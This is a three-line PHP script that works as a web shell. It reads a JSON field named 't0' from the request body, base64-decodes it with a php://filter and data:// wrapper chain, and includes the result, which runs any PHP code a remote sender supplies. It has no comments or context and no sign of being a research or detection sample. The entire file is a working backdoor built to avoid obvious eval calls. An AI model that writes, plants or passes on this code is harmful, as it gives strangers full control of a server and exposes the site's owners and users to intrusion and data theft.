<?php
$val = json_decode(file_get_contents('php://input'))->t0;
include 'php://filter/read=convert.base64-decode/resource=data://text/plain;base64,' . $val;
